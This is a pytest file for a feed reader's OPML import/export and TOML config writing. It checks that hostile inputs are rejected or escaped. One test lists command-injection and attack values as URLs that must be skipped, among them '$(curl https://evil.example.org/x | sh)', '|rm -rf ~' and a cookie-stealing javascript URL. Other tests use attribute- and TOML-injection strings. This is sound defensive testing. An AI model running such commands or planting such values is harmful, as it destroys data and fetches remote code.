"""OPML import and export, and the TOML blocks that add imported feeds to a config file."""

from __future__ import annotations

import tomllib
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from kalbartui.config import load_config
from kalbartui.config.file import with_entries
from kalbartui.feeds.opml import OpmlError, parse_opml, read_opml, write_opml
from kalbartui.models import FeedSpec

DATA = Path(__file__).resolve().parent.parent / "data"

# Grouped as the export writes them: feeds without a category, then one folder per category.
SUBSCRIPTIONS = [
    FeedSpec(url="https://www.kalbaronline.com/feed/", name="KalbarOnline"),
    FeedSpec(url="https://plain.example.org/rss"),
    FeedSpec(
        url="https://www.kalbaronline.com/category/pontianak/feed/",
        category="Pontianak",
        name="Pontianak",
    ),
    FeedSpec(url="https://www.kalbaronline.com/category/singkawang/feed/", category="Singkawang"),
    FeedSpec(
        url="https://tekno.example.org/atom.xml",
        category="Teknologi & Sains",
        name='Catatan "Tekno" <mingguan>',
    ),
    FeedSpec(
        url="https://tekno.example.org/q?a=1&b=2",
        category="Teknologi & Sains",
        name="Kueri & 'kutip'",
    ),
    FeedSpec(url="file:///srv/feeds/lari%20pagi.xml", category="Olahraga", name="Lari pagi"),
]


def _has_controls(text: str) -> bool:
    return any(unicodedata.category(c) == "Cc" for c in text)


def test_export_then_import_gives_back_the_same_feeds(tmp_path: Path) -> None:
    path = tmp_path / "langganan.opml"
    path.write_text(write_opml(SUBSCRIPTIONS), encoding="utf-8")

    result = read_opml(path)

    assert result.feeds == SUBSCRIPTIONS
    assert result.skipped == []


def test_export_groups_interleaved_categories_in_first_seen_order(tmp_path: Path) -> None:
    mixed = [SUBSCRIPTIONS[i] for i in (5, 0, 2, 6, 4, 1, 3)]
    path = tmp_path / "campur.opml"
    path.write_text(write_opml(mixed), encoding="utf-8")

    feeds = read_opml(path).feeds

    order = list(dict.fromkeys(f.category for f in mixed))
    assert feeds == sorted(mixed, key=lambda f: order.index(f.category))


def test_export_is_opml_2_with_one_folder_per_category() -> None:
    root = ET.fromstring(write_opml(SUBSCRIPTIONS, title="Bacaan <pagi> & sore"))

    assert root.tag == "opml" and root.get("version") == "2.0"
    assert root.findtext("head/title") == "Bacaan <pagi> & sore"
    body = root.find("body")
    assert body is not None
    folders = [o.get("text") for o in body.findall("outline") if o.get("xmlUrl") is None]
    assert folders == list(dict.fromkeys(f.category for f in SUBSCRIPTIONS if f.category))
    top_level = [o.get("xmlUrl") for o in body.findall("outline") if o.get("xmlUrl")]
    assert top_level == [f.url for f in SUBSCRIPTIONS if not f.category]
    for outline in body.iter("outline"):
        assert outline.get("text"), "OPML requires text on every outline"


def test_export_keeps_values_inside_their_attributes() -> None:
    feeds = [
        FeedSpec(
            url="https://x.example.org/feed",
            name='a" xmlUrl="javascript:alert(1)',
            category="c\ny\x1b[2J",
        )
    ]

    text = write_opml(feeds)
    outlines = list(ET.fromstring(text).iter("outline"))

    assert [o.get("xmlUrl") for o in outlines if o.get("xmlUrl")] == ["https://x.example.org/feed"]
    assert not _has_controls(text.replace("\n", ""))


def test_nested_folders_give_each_feed_its_nearest_folder_as_category() -> None:
    result = read_opml(DATA / "subscriptions.opml")

    assert result.feeds == [
        FeedSpec(url="https://tekno.example.org/feed/", category="", name="Tekno Mingguan"),
        FeedSpec(
            url="https://www.kalbaronline.com/category/pontianak/feed/",
            category="Kalimantan Barat",
            name="KalbarOnline Pontianak",
        ),
        # title wins over text; xmlurl is matched in any letter case
        FeedSpec(
            url="https://www.kalbaronline.com/category/kubu-raya/feed/",
            category="Kalimantan Barat",
            name="KalbarOnline Kubu Raya",
        ),
        FeedSpec(
            url="https://nasional.example.org/rss.xml", category="Berita", name="Nasional & Dunia"
        ),
        # a folder without a name passes its parent's name on
        FeedSpec(
            url="https://tanpa-nama.example.org/atom.xml",
            category="Berita",
            name="Folder tanpa nama",
        ),
        # folder names are folded to one line; a name that is only the URL is no name
        FeedSpec(url="https://bola.example.org/feed/", category="Olahraga Lokal", name=""),
        FeedSpec(url="file:///srv/feeds/lari.xml", category="Olahraga Lokal", name="Catatan Lari"),
        # OPML 2.0's category attribute, used when the feed sits in no folder
        FeedSpec(
            url="https://foto.example.org/feed/", category="Fotografi", name="Kategori OPML 2.0"
        ),
    ]
    assert result.skipped == []


def test_hostile_urls_are_skipped_and_reported() -> None:
    result = read_opml(DATA / "hostile.opml")

    assert [f.url for f in result.feeds] == [
        "https://baik.example.org/feed/",
        "https://warna.example.org/feed/",
    ]
    skipped = dict(result.skipped)
    for url in [
        "javascript:alert(document.cookie)",
        "ftp://ftp.example.org/feed.xml",
        "|rm -rf ~",
        "$(curl https://evil.example.org/x | sh)",
        "`reboot`",
        "http:///etc/passwd",
        "",
        "https://baik.example.org/a b",  # the newline, folded for display
    ]:
        assert skipped.get(url), f"{url!r} should be skipped with a reason"
    assert any(url.startswith("data:") for url in skipped)
    assert "listed more than once" in {str(why) for why in skipped.values()}
    assert len(result.skipped) == 10


def test_imported_names_are_cleaned() -> None:
    result = read_opml(DATA / "hostile.opml")

    for feed in result.feeds:
        assert not _has_controls(feed.name) and "\n" not in feed.name
    coloured = next(f for f in result.feeds if "warna" in f.url)
    assert "berwarna" in coloured.name


def test_malformed_opml_names_the_file_and_line() -> None:
    path = DATA / "malformed.opml"
    bad_line = next(
        n for n, line in enumerate(path.read_text().splitlines(), 1) if '"Rusak"' in line
    )

    with pytest.raises(OpmlError) as caught:
        read_opml(path)

    message = str(caught.value)
    assert message.startswith(f"{path}: line {bad_line}: ")
    assert "not well-formed" in message
    assert "\n" not in message


@pytest.mark.parametrize("name", ["entity_bomb.opml", "external_entity.opml"])
def test_doctype_and_entities_are_refused(name: str) -> None:
    with pytest.raises(OpmlError, match=r"line 2: declares a DOCTYPE or entities"):
        read_opml(DATA / name)


def test_a_doctype_in_utf16_is_refused_too(tmp_path: Path) -> None:
    # The raw-bytes check cannot see UTF-16 text; the parser's own handler has to.
    text = (DATA / "entity_bomb.opml").read_text(encoding="utf-8").replace("UTF-8", "UTF-16")
    path = tmp_path / "utf16.opml"
    path.write_bytes(text.encode("utf-16"))

    with pytest.raises(OpmlError, match="DOCTYPE"):
        read_opml(path)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "line 1: no element found"),
        (
            b'<?xml version="1.0"?>\n<rss version="2.0"><channel/></rss>',
            "line 2: the root element is <rss>",
        ),
        (b'<opml version="2.0"><head><title>t</title></head></opml>', "has no <body>"),
    ],
)
def test_files_that_are_not_subscription_lists(data: bytes, expected: str) -> None:
    with pytest.raises(OpmlError, match=expected):
        parse_opml(data, "impor.opml")


def test_unreadable_file_is_one_sentence(tmp_path: Path) -> None:
    missing = tmp_path / "tidak-ada.opml"

    with pytest.raises(OpmlError, match=r"tidak-ada\.opml: cannot be read"):
        read_opml(missing)


def test_an_empty_body_imports_nothing() -> None:
    result = parse_opml(b'<opml version="2.0"><head/><body></body></opml>')

    assert result.feeds == [] and result.skipped == []


AWKWARD = [
    FeedSpec(
        url="https://www.kalbaronline.com/feed/",
        category="Berita",
        name='Kata "kutip" dan \\ garis miring',
    ),
    FeedSpec(
        url="https://a.example.org/feed",
        category=']]\n[[feeds]]\nurl = "javascript:x"',
        name="baris\nbaru\ttab",
    ),
    FeedSpec(url='https://b.example.org/?q="x"&y=\\', name='"""tiga kutip""" dan \'satu\''),
    FeedSpec(url="https://c.example.org/feed", name="kontrol \x00\x1b[31m\x7f\x85 akhir"),
    FeedSpec(
        url="file:///srv/feeds/berita.xml", category="Khatulistiwa ☀ 赤道", name="# bukan komentar"
    ),
    FeedSpec(url="https://d.example.org/feed"),
]


def test_toml_blocks_read_back_as_the_same_feeds() -> None:
    data = tomllib.loads(with_entries('language = "id"\n', "id", feeds=AWKWARD))

    back = [
        FeedSpec(url=t["url"], category=t.get("category", ""), name=t.get("name", ""))
        for t in data["feeds"]
    ]
    assert back == AWKWARD
    # The file named no feeds, so it read KalbarOnline: that source is now written out.
    assert set(data) == {"language", "sources", "feeds"}
    assert [s["url"] for s in data["sources"]] == ["https://www.kalbaronline.com/"]


def test_toml_blocks_append_to_a_config_file(tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text('language = "id"\n\n[keys]\nquit = "q"\n\n', encoding="utf-8")
    imported = read_opml(DATA / "subscriptions.opml").feeds

    config.write_text(
        with_entries(config.read_text(encoding="utf-8"), "id", feeds=imported), encoding="utf-8"
    )
    loaded = load_config(config)

    assert [(f.url, f.category, f.name) for f in loaded.feeds] == [
        (f.url, f.category, f.name) for f in imported
    ]
    assert loaded.keys == {"quit": "q"}
